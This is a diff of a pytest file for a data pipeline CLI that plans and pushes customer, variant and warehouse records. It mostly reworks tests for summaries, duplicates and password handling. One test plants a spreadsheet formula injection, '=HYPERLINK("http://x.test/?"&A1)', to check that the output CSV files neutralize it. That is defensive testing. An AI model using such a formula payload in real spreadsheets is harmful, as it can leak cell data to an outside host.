@@ -21,8 +21,6 @@ import msgspec
 import pyarrow as pa
 import pytest
 
-from pipelines.cli.console import Reporter
-from pipelines.cli.plan import plan, summary_lines
 from pipelines.cli.process import prepare_environment
 from pipelines.ledger.model import StateChange
 from pipelines.ledger.store import Ledger
@@ -189,7 +187,6 @@ def test_only_what_differs_from_the_last_confirmed_is_sent_and_prices_that_jump_
     nothing = variants(work, "1;1001;00038;18,00;7\n")
     assert "a stock that is as last confirmed is not sent" in summary_of(nothing)
     assert (nothing.manifest.operations, "- nothing to send\n" in summary_of(nothing)) == (0, True)
-    assert "- nothing to send: the file has a header and no line;" in summary_of(variants(work, ""))
 
 
 def test_a_stock_that_is_set_is_sent_although_it_is_as_last_confirmed(work: Path) -> None:
@@ -224,9 +221,7 @@ def test_changes_are_sent_as_they_stand_and_zeros_left_out(work: Path) -> None:
         variants(work, "1;1001;;;7\n")
 
 
-def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(
-    work: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(work: Path) -> None:
     """The platform adds changes: the same file, planned and pushed again, adds them twice, or is not sent again."""
     os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "increment"
 
@@ -242,9 +237,6 @@ def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(
     other = changes("1;1001;;;7\n1;1002;;;3\n")
     assert (other.earlier_changes, changes(rows).earlier_changes) == ((1, folder, False), (1, folder, True))
     assert changes("1;1002;;;3\n").earlier_changes is None
-    changes(rows)
-    plan(PlanOptions("variants", work / "in.csv", work / "mapping.toml"), Reporter("plain"))
-    assert f"pushed before, in {folder}: 1 change will not be sent again" in capsys.readouterr().err
     pushed(other, *sent(2, "confirmed"), at=6.0)  # only 1001 was sent by the first plan
     assert changes(rows).earlier_changes == (1, str(other.folder.absolute()), False)
     given_up = changes("1;1003;;;4\n1;1004;;;4\n")
@@ -262,28 +254,11 @@ def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(wor
     assert lines[0].words == "line 6 has the same Producto, Variante, but another Existencias"
     assert made.exit_code == 5
     adds_up(made)
-
-
-def test_lines_with_one_key_name_the_columns_that_differ(platform: Bridge) -> None:
-    rows = "Código;Nombre;Correo;Teléfono;NIF;Clave\nA;Ana;a@x.es;1;N1;p\nA;Ana;a@x.es;2;N1;p\nB;Eva;b@x.es;;N2;p\n"
-    rows += "C;Luz;B@x.es;;N3;p\nD;Sol;d@x.es;;;p\nD;Sol;d@x.es;;;q\n"
-    made = planned("customers", Path.cwd(), rows, CUSTOMERS + '"Clave" = "password"\n')
-    assert [line.words for line in Plan(made.folder).unsent_lines()][::2] == [
-        "line 3 has the same Código, but another Teléfono",
-        "line 5 has the same Correo, but another Código, Nombre, NIF",
-        "line 7 has the same Código, but another Clave",
-    ]
-    shown = {reason.words.partition(";")[0] for reason in made.statistics.reasons}
-    assert "the same key with other values: line 3 has the same Código, but another Teléfono" in shown
     mapping = VARIANTS + '"Color" = "attributes.Color"\n"Talla" = "attributes.Talla"\n'
     rows = "Producto;Variante;Código;PVP;Existencias;Color;Talla\n1;1;a;1;1;R;S\n1;1;a;1;1;R;M\n"
-    for text, column in ((mapping, "Talla"), (mapping.replace(".Talla", ".a.name.x"), "attributes")):
-        made = planned("variants", Path.cwd(), rows, text)
-        assert [line.words.rpartition("another ")[2] for line in Plan(made.folder).unsent_lines()] == [column] * 2
-    head = "name,isDefault,code,location.line,location.coordinates[0],location.coordinates[1]\n"
-    made = planned("warehouses", Path.cwd(), f"{head}Sur,false,S,C 1,1.5,2\nSur,false,S,C 1,1.5,3\n")
-    words = [line.words for line in Plan(made.folder).unsent_lines()]
-    assert words[0] == "line 3 has the same code, but another location.coordinates[1]"
+    made = planned("variants", work, rows, mapping)
+    assert [line.words.rpartition("another ")[2] for line in Plan(made.folder).unsent_lines()] == ["Talla"] * 2
+    assert "the same key with other values: line 3 has the same Producto" in made.statistics.reasons[0].words
 
 
 def test_problems_of_columns_named_with_the_sign_between_problems_are_reported_apart(work: Path) -> None:
@@ -327,25 +302,12 @@ def test_corrected_rejects_have_the_cells_that_were_filled_from_lines_above(work
     assert fates(corrected) == {5: ("rejected", "fill_torn"), 6: ("rejected", "fill_torn")}
 
 
-def test_a_skipped_line_and_a_rare_value_are_reported_in_the_summary(work: Path) -> None:
-    head = "productId,variantId,sku\n1,1,A\xad\n"
-    made = planned("variants", work, f"{head}1,2,\n1,3,\n")
-    assert fates(made) == {3: ("skipped", ""), 4: ("skipped", "")}
-    assert "\n- 2 lines skipped: no field has a value (lines 3, 4)\n" in summary_of(made)
+def test_skipped_lines_a_rare_value_and_notes_are_reported_in_the_summary(work: Path) -> None:
+    made = planned("variants", work, "productId,variantId,sku\n1,1,A\xad\n" + "1,2,\n" * 6, passwords="mail")
+    assert fates(made) == dict.fromkeys(range(3, 9), ("skipped", ""))
+    assert "\n- 6 lines skipped: no field has a value (lines 3, 4, 5, 6, 7…)\n" in summary_of(made)
     assert "- 1 line: sku contains invisible or control characters (line 2)\n" in summary_of(made)
     assert "\xad" not in summary_of(made)
-    for count, shown in ((5, "lines 3, 4, 5, 6, 7"), (6, "lines 3, 4, 5, 6, 7…")):
-        made = planned("variants", work, head + "1,2,\n" * count)
-        assert f"no field has a value ({shown})" in summary_of(made)
-    ignored = VARIANTS.replace('"PVP" = "price"', '"PVP | IVA" = { ignore = true }')
-    rows = "Producto;Variante;Código;PVP | IVA;Existencias\n1;1;A;;\n1;2;B;1;\n1;3;;1;\n1;4;;1;\n"
-    text = summary_of(planned("variants", work, rows, ignored + '[rows]\nskip_blank = ["PVP | IVA"]\n'))
-    assert "\n- 2 lines skipped: no field has a value (lines 4, 5)\n" in text
-    assert "\n- 1 line skipped: PVP | IVA: empty (line 2)\n" in text
-
-
-def test_notes_stand_in_their_order(work: Path) -> None:
-    made = variants(work, "1;1;A;;\n", passwords="mail")
     assert load(made.folder / "mapping.toml").generate_passwords is None, "variants have no passwords"
     notes = [f"column {number}: decimal comma" for number in range(12)]
     text = summary(made.manifest, PlanStatistics(1, notes=notes), Path())
@@ -367,16 +329,6 @@ def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path
     done = subprocess.run([sys.executable, "-m", "pipelines.cli", *arguments], env=env, cwd=elsewhere, check=False)
     assert done.returncode == 5
     assert files_of(elsewhere / "plan") == expected
-
-
-def test_a_folder_or_file_that_cannot_be_used_is_refused_and_nothing_is_left(work: Path) -> None:
-    with pytest.raises(UsageError, match="not UTF-8"):
-        variants(work, "1;1;a;;\n", out=work / "\udcff")
-    (work / "loop").symlink_to("loop")
-    for files in (work / "loop", None), (work / "in.csv", work / "loop"):
-        with pytest.raises(UsageError, match="cannot be read: Too many levels of symbolic links"):
-            make_plan(PlanOptions("variants", *files))
-    assert sorted(path.name for path in work.iterdir()) == ["in.csv", "loop", "mapping.toml"]
 
 
 def test_what_a_plan_depends_on_makes_another_plan_and_nothing_else_does(work: Path) -> None:
@@ -407,25 +359,15 @@ def test_the_plan_of_another_organization_is_kept_beside(work: Path) -> None:
     assert (third.folder, third.is_new) == (again.folder, False)
 
 
-@pytest.mark.parametrize(("sample", "opens"), [(1 << 18, 1), (40, 3)])
-def test_an_input_is_opened_to_detect_it_and_for_each_further_pass_beyond_its_head(
-    work: Path, sample: int, opens: int
-) -> None:
-    mapping, rows = VARIANTS.replace('decimal = ","\nthousands = "."', ""), "1;1;a;1,5;\n" * 8
-    with (
-        mock.patch.object(encoding, "SAMPLE", sample),
-        mock.patch.object(encoding, "CHUNK_BYTES", 40),
-        mock.patch.object(Path, "open", autospec=True, side_effect=Path.open) as opened,
-    ):
-        made = variants(work, rows, mapping)
+def test_the_hash_of_an_input_is_that_of_all_its_bytes(work: Path) -> None:
+    with mock.patch.object(encoding, "SAMPLE", 40), mock.patch.object(encoding, "CHUNK_BYTES", 40):
+        made = variants(work, "1;1;a;1,5;\n" * 8, VARIANTS.replace('decimal = ","\nthousands = "."', ""))
     assert made.manifest.input.sha256 == hashlib.sha256((work / "in.csv").read_bytes()).hexdigest()
-    reads = [call.args for call in opened.call_args_list if call.args[0].name == "in.csv" and call.args[1:] == ("rb",)]
-    assert (made.manifest.lines, len(reads)) == (8, opens)
+    assert made.manifest.lines == 8
 
 
-@pytest.mark.parametrize("name", ["in.csv", "mapping.toml"])
-@pytest.mark.parametrize("step", ["open_inputs", "partition"])
-def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, name: str, step: str) -> None:
+@pytest.mark.parametrize(("step", "name"), [("open_inputs", "in.csv"), ("partition", "mapping.toml")])
+def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, step: str, name: str) -> None:
     do = getattr(make, step)
 
     def changed(*given: Any, **options: Any) -> Any:
@@ -438,27 +380,22 @@ def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, name: st
     assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]
 
 
-def test_a_plan_names_the_organization_of_a_warehouse_with_the_data_of_its_host(
-    work: Path, caplog: pytest.LogCaptureFixture
-) -> None:
+def test_a_plan_names_the_organization_of_a_warehouse_with_the_data_of_its_host(work: Path) -> None:
     """Also of a kind that is not compared with the warehouse. Its id stays: changes of stock are not added twice."""
     found = [variants(work, "1;1;a;;\n", out=work / "unknown").manifest]
-    for number, host in enumerate((urlsplit(HOST).netloc, None, "other.example")):
+    for number, host in enumerate((urlsplit(HOST).netloc, None, "other.example", "no database")):
         path = work / f"{number}.duckdb"
-        with duckdb.connect(str(path)) as connection:
-            ops.create_missing(connection)
-            source = DataSource(host, host, "sandbox", "org-2")
-            record_source(connection, source, "run", datetime(2026, 1, 1, tzinfo=UTC))
+        if host == "no database":
+            path.write_text(host)
+        else:
+            with duckdb.connect(str(path)) as connection:
+                ops.create_missing(connection)
+                source = DataSource(host, host, "sandbox", "org-2")
+                record_source(connection, source, "run", datetime(2026, 1, 1, tzinfo=UTC))
         os.environ["WAREHOUSE__PATH"] = str(path)
         found.append(variants(work, "1;1;a;;\n", out=work / str(number)).manifest)
-    assert [manifest.organization for manifest in found] == [None, "org-2", "org-2", None]
+    assert [manifest.organization for manifest in found] == [None, "org-2", "org-2", None, None]
     assert len({manifest.plan_id for manifest in found}) == 1
-    os.environ["WAREHOUSE__PATH"] = str(work / "w.duckdb")
-    (work / "w.duckdb").write_text("no database")
-    assert variants(work, "1;1;a;;\n", out=work / "no").manifest.organization is None
-    (record,) = caplog.records
-    assert "w.duckdb is not a DuckDB file" in record.getMessage()
-    assert "does not name the organization" in record.getMessage()
 
 
 # --- creates that cannot be looked up --------------------------------------------------------------------------------
@@ -493,7 +430,6 @@ def test_creates_are_told_apart_by_their_codes_or_by_name_and_place(
         ("subcategories", "categoryId,name,order", "7,Te,1", "7,Te,1", "unchanged"),
         ("subcategories", "categoryId,name,order", "7,Te,1", "7,Te,2", "exists_differs"),
         ("subcategories", "categoryId,name,order", "7,Te,1", "8,Te,1", None),
-        ("warehouses", SITES, "Sur,false,C 1,S", "Sur,false,C 2,S", "exists_differs"),
         ("warehouses", SITES, "Sur,false,C 1,S", "Sur,false,C 1,T", None),
         ("warehouses", SITES, "Sur,false,C 1,", "Sur,false,C 2,", "exists_differs"),
     ],
@@ -560,94 +496,84 @@ def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None
     }  # fmt: skip
     assert fates(made) == {3: ("exists_same", ""), 4: ("exists_differs", ""), 5: ("merged", "")}
     (reported,) = people_rows(made.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
-    assert f"Differences: {made.folder / 'differences.csv'}" in summary_lines(made)
     difference = ("4", "exists_differs", second["id"], "firstName", "Otra", second["first_name"])
     assert tuple(reported.values()) == difference
-    assert (made.exit_code, suspicious(made)) == (0, [])
+    assert (made.exit_code, suspicious(made), made.manifest.messages) == (0, [], 1)
+    assert "will send 1 message" in summary_of(made)
     assert made.manifest.read is not None
     assert (made.manifest.read.rows, made.manifest.organization) == (6, "Distribuidora Peña S.A.C.")
     adds_up(made)
-    ambiguous = customers(f"{first['erp_code']};Ana;{second['email']};;X\n")
-    assert (fates(ambiguous), ambiguous.manifest.operations) == ({2: ("ambiguous", "")}, 0)
-    refused = customers("A\0;Ana;a@x.es;;\n")  # every row by the intake
-    assert (refused.exit_code, fates(refused)) == (5, {2: ("rejected", "nul")})
-    adds_up(refused)
-    silent, notified, mailed = (
-        customers("A;Ana;a@x.es;;\nB;Bea;b@x.es;;\n", passwords=way, notify=notify)
-        for way, notify in (("file", False), ("file", True), ("mail", False))
+    silent, notified = (
+        customers(f"{first['erp_code']};Ana;{second['email']};;X\nA\0;Ana;a@x.es;;\nB;Bea;b@x.es;;\n", **more)
+        for more in ({"passwords": "file"}, {"passwords": "file", "notify": True})
     )
-    assert [made.manifest.messages for made in (silent, notified, mailed)] == [0, 2, 2]
+    assert fates(silent) == {2: ("ambiguous", ""), 3: ("rejected", "nul")}
+    assert [made.manifest.messages for made in (silent, notified)] == [0, 1]
     assert bodies(silent)[0]["notification"] == {"send": False, "withCredentials": False}
     assert bodies(notified)[0]["notification"] == {"send": True, "withCredentials": False}
     assert operations(silent)[0].password == "stored"
     assert "No customer gets a message" in summary_of(silent)
-    assert "will send 2 messages" in summary_of(mailed)
 
 
 def test_new_customers_that_may_be_known_ones_are_pointed_out(platform: Bridge) -> None:
     first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
-    near = customers(f"NEW1;Ana;ana@example.com;;N1\n0{first['erp_code']};Ana;b@example.com;;N2\n")
-    assert suspicious(near) == [("erpCode", "nearly_known", 1, [3])]
-    assert "erpCode differs from one on the platform in zeros, case or punctuation only" in summary_of(near)
-    codes = ("007", "7", "Cé-1", "CÉ1", "X\xad9", "x9", "-", "70", "700")
-    alike = customers("".join(f"{code};Ana;a{number}@example.com;;\n" for number, code in enumerate(codes)))
-    assert alike.manifest.operations == len(codes)
-    assert ("erpCode", "nearly_repeated", 6, [2, 3, 4, 5, 6]) in suspicious(alike)
-    (known,) = platform.rows("SELECT id FROM raw.price_lists")[0]
-    rows = "".join(f"N{n};Ana;p{n}@example.com;{key};\n" for n, key in enumerate(("", known, "99999", "-1")))
-    listed = CUSTOMERS.replace('"phone"', '"priceListId"')
-    assert suspicious(customers(rows, listed)) == [("priceListId", "not_listed", 2, [4, 5])]
+    known = platform.one("SELECT id FROM raw.price_lists")
     update(platform, f"UPDATE raw.customers SET _missing_since = now() WHERE id = '{second['id']}'")
-    gone = f"{second['erp_code']};Ana;x@example.com;;\nNEW;Eva;{second['email']};;\n;Eva;eva@example.com;;\n"
-    assert suspicious(customers(gone)) == [("", "was_there", 2, [2, 3])]
-    unproven = "ops.coverage SET verdict = 'unproven' WHERE resource = 'price_lists'"
-    for change in ("raw.price_lists SET id = 'pl_1'", "raw.price_lists SET id = '9'", unproven):
+    alike = ("007", "7", "Cé-1", "CÉ1", "X\xad9", "x9", "-", "70", "700")
+    new = [(f"0{first['erp_code']}", ""), *((code, "") for code in alike)]  # lines 2 to 11
+    new += [("L1", ""), ("L2", known), ("L3", "99999"), ("L4", "-1"), (second["erp_code"], "")]
+    rows = "".join(f"{code};Ana;a{n}@example.com;{key};\n" for n, (code, key) in enumerate(new))
+    rows += f"NEW;Eva;{second['email']};;\n;Eva;eva@example.com;;\n"
+    listed = CUSTOMERS.replace('"phone"', '"priceListId"')
+    made = customers(rows, listed)
+    assert made.manifest.operations == len(new) + 2
+    assert {
+        ("erpCode", "nearly_known", 1, (2,)), ("erpCode", "nearly_repeated", 6, (3, 4, 5, 6, 7)),
+        ("priceListId", "not_listed", 2, (14, 15)), ("", "was_there", 2, (16, 17)),
+    } < {(*others, tuple(lines)) for *others, lines in suspicious(made)}  # fmt: skip
+    assert "erpCode differs from one on the platform in zeros, case or punctuation only" in summary_of(made)
+    for change in ("raw.price_lists SET id = 'pl_1'", "ops.coverage SET verdict = 'unproven'"):
         update(platform, f"UPDATE {change}")
-        assert bool(suspicious(customers(rows, listed))) == change.endswith("'9'"), change
-    assert f"not all: -1, {known}, 99999 are not checked" in summary_of(customers(rows, listed))
+        made = customers(rows, listed)
+        assert "priceListId" not in {field for field, *_ in suspicious(made)}, change
+        update(platform, f"UPDATE raw.price_lists SET id = '{known}'")
+    assert f"not all: -1, {known}, 99999 are not checked" in summary_of(made)
 
 
-def test_rows_of_the_platforms_list_that_were_refused_are_reported(unread: Bridge) -> None:
+def test_what_others_typed_into_the_platform_is_counted_and_no_cell_of_a_plan_runs_in_a_spreadsheet(
+    unread: Bridge,
+) -> None:
+    """A row that is refused; and a formula as a name, there and in the file."""
+    formula = '=HYPERLINK("http://x.test/?"&A1)'
+    quoted = formula.replace('"', '""')
     unread.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
+    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
     unread.pull("customers")
-    made = customers("E007;Ana;ana@example.com;;N1\n")
+    made = customers(f'E1;Ana;e1@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\nE007;Ana;ana@example.com;;N1\n')
     assert made.manifest.read is not None
-    assert (made.manifest.read.rows, made.manifest.read.refused) == (6, 1)
+    assert (made.manifest.read.rows, made.manifest.read.refused) == (7, 1)
     reported = "row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n"
     assert f"\n1 {reported}" in summary_of(made)
     assert "the push looks up each new customer again before it sends" in summary_of(made)
-    unread.pull("customers")
-    assert customers("E007;Ana;ana@example.com;;N1\n").manifest.plan_id != made.manifest.plan_id  # of another read
+    (difference,) = people_rows(made.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
+    assert f"'{formula}" in difference["platform_value"]
+    for path in made.folder.glob("*.csv"):
+        with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
+            for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
+                assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
 
-def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(unread: Bridge) -> None:
-    first = unread.pull("customers", "promotions")
-    for key in unread.platform.state.ids("customers")[:5]:
-        unread.platform.state.remove("customers", key)
-    second = unread.pull("customers", "promotions")
+def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(platform: Bridge) -> None:
+    run = platform.one("SELECT run_id FROM ops.coverage WHERE resource = 'customers'")
+    for key in platform.platform.state.ids("customers")[:5]:
+        platform.platform.state.remove("customers", key)
+    second = platform.pull("customers", "promotions")
     assert (second.exit_code, bool(second.published)) == (ExitCode.COVERAGE, True)
     made = customers("NEW1;Ana;new@example.test;;\n")
     assert load(made.folder / "mapping.toml").generate_passwords == "mail"
     read = made.manifest.read
     assert read is not None
-    assert (read.run_id, read.verdict, read.rows) == (first.run_id, "complete", 6)
-
-
-def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(unread: Bridge) -> None:
-    """A name that somebody typed into the platform, and one in the file."""
-    formula = '=HYPERLINK("http://x.test/?"&A1)'
-    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
-    unread.pull("customers")
-    quoted = formula.replace('"', '""')
-    made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
-    alone = customers("E1;Ana;e1@x.es;;\n")
-    (reported, *_) = people_rows(alone.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
-    assert f"'{formula}" in reported["platform_value"]
-    for folder in (made.folder, alone.folder):
-        for path in folder.glob("*.csv"):
-            with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
-                for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
-                    assert [cell for cell in row if neutralize(cell) != cell] == [], path
+    assert (read.run_id, read.verdict, read.rows) == (run, "complete", 6)
 
 
 def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platform: Bridge) -> None:
@@ -663,40 +589,36 @@ def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platf
     assert (made.folder / "differences.csv").read_text("utf-8").splitlines() == [header, *found[1:]]
     assert "1 difference not listed: accepted in accepted.csv" in summary_of(made)
     assert "until reconcile.country" in summary_of(made)  # a phone differs
-    assert fates(customers(rows.replace("=Otra", "Nueva"), out=Path("new")))[2] == ("exists_differs", "")
-    accepted.write_text(f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n", "utf-8")
-    assert fates(customers(rows.replace(";1;", ";2;"), out=Path("any")))[3] == ("exists_same", "")
-    both = f"{first['erp_code']};;{second['email']};;\n"
     keys = "".join(f"{one['id']},{key}\n" for one in (first, second) for key in ("erpCode", "email"))
-    accepted.write_text(f"customer_id,field\n{keys}", "utf-8")
-    made = customers(both, out=Path("ambiguous"))  # how customers were found is no difference
-    assert (fates(made), made.statistics.accepted) == ({2: ("ambiguous", "")}, 0)
+    accepted.write_text(f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n{keys}", "utf-8")
+    assert fates(customers(rows, out=Path("any"))) == {2: ("exists_differs", ""), 3: ("exists_same", "")}
+    made = customers(f"{first['erp_code']};;{second['email']};;\n", out=Path("ambiguous"))
+    assert (fates(made), made.statistics.accepted) == ({2: ("ambiguous", "")}, 0), "how they were found is accepted"
     accepted.write_text("")
     with pytest.raises(UsageError, match=r"differences\.csv into it, or remove it"):
         customers(rows, out=Path("empty"))
 
 
-def test_customers_need_a_warehouse_of_the_same_host_and_all_that_is_lacking_is_named(unread: Bridge) -> None:
-    row = "A;Ana;a@x.es;;\n"
+def test_customers_need_a_warehouse_of_the_same_host_and_all_that_is_lacking_is_named(platform: Bridge) -> None:
+    row, warehouse = "A;Ana;a@x.es;;\n", os.environ["WAREHOUSE__PATH"]
 
     def lacking(*words: str, **more: Any) -> None:
         with pytest.raises(UsageError) as reported:
             customers(row, **more)
         assert [one for one in words if one not in str(reported.value)] == []
 
-    lacking("no warehouse at", "orderbridge pull customers")
+    os.environ["WAREHOUSE__PATH"] = "none.duckdb"
     del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
     every = ("no warehouse at", "orderbridge pull customers", "--passwords", "login_mode")
     lacking("3 things are missing", *every, passwords=None)
-    unread.pull("price_lists")
-    os.environ["SOURCES__LEGACY__LOGIN_MODE"] = "email"
-    lacking("has no customers read from the platform", "orderbridge pull customers")
-    unread.pull("customers")
+    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email", "WAREHOUSE__PATH": warehouse}
     lacking("column", "--passwords mail", "--passwords file", "`make` under [passwords]", passwords=None)
     made = customers(row, CUSTOMERS + '[passwords]\nmake = "file"\n', passwords=None)
     assert operations(made)[0].password == "stored"
     os.environ["SOURCES__LEGACY__BASE_URL"] = HOST
     lacking("were read from", "orderbridge pull customers")
+    update(platform, "DELETE FROM ops.coverage")
+    lacking("has no customers read from the platform", "orderbridge pull customers")
 
 
 def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
@@ -709,6 +631,8 @@ def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
     assert fates(made) == {3: ("rejected", "required"), 5: ("merged", ""), 6: conflicting, 7: conflicting}
     assert b"hunter" not in b"".join(files_of(made.folder).values())
     assert b"must be filled in again" in (made.folder / "rejects.csv").read_bytes()
+    words = [line.words for line in Plan(made.folder).unsent_lines()]
+    assert words[-1].endswith("line 6 has the same Código, but another Clave")
     assert made.manifest.password_column == "Clave"
     adds_up(made)
 
@@ -717,8 +641,8 @@ def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: P
     """Without a mapping file, with the choice of passwords made on the command line."""
     (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
     env, folder = dict(os.environ), tmp_path / "my plan"
-    options = ["--passwords", "file", "--notify-customers", "--out", "my plan"]
-    done = command("plan", "customers", "in.csv", *options, env=env, cwd=tmp_path)
+    plan = ["plan", "customers", "in.csv", "--passwords", "file", "--notify-customers", "--out", "my plan"]
+    done = command(*plan, env=env, cwd=tmp_path)
     assert done.code == 5, done.said
     of_terminal, of_summary = (
         [shlex.split(line)[1:] for line in text.splitlines() if line.startswith("    orderbridge ")]
@@ -728,11 +652,9 @@ def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: P
         sent = command(*of_summary[0], env=env, cwd=folder)
         assert "1  confirmed" in sent.out, sent.said
         assert ("nothing was left to send" in sent.out) == is_again, "only a push that sent nothing says so"
-        planned = command("plan", "customers", "in.csv", *options, env=env, cwd=tmp_path)
-        assert "Nothing is left to send." in planned.out, "a plan that was pushed says so"
-        assert "Nothing was sent yet" not in planned.out + (folder / "summary.md").read_text("utf-8")
-    sent = command(*of_summary[0], "--log", "json", env=env, cwd=folder)
-    assert (json.loads(sent.out)["sent"], json.loads(sent.out)["operations"]) == (0, {"confirmed": 1})
+    again = command(*plan, env=env, cwd=tmp_path)
+    assert "Nothing is left to send." in again.out, "a plan that was pushed says so"
+    assert "Nothing was sent yet" not in again.out + (folder / "summary.md").read_text("utf-8")
     for plan_rejects, cwd in ((of_terminal[1], tmp_path), (of_summary[1], folder)):
         again = command(*plan_rejects, "--out", str(tmp_path / "again"), env=env, cwd=cwd)
         assert (again.code, "1 line rejected" in again.out) == (5, True), again.said
